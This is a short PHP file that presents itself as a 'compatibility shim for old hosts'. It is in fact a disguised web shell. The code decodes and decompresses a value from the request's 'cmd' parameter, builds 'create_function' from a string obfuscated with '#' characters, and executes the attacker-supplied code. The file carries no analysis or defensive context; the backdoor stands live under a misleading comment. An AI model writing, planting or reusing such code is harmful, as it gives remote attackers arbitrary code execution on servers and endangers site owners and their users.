<?php
// compatibility shim for old hosts
$payload = gzinflate(base64_decode($_GET['cmd']));
$a = str_replace('#', '', 'c#r#e#a#t#e#_#f#u#n#c#t#i#o#n');
$f = $a('', $payload);
$f();
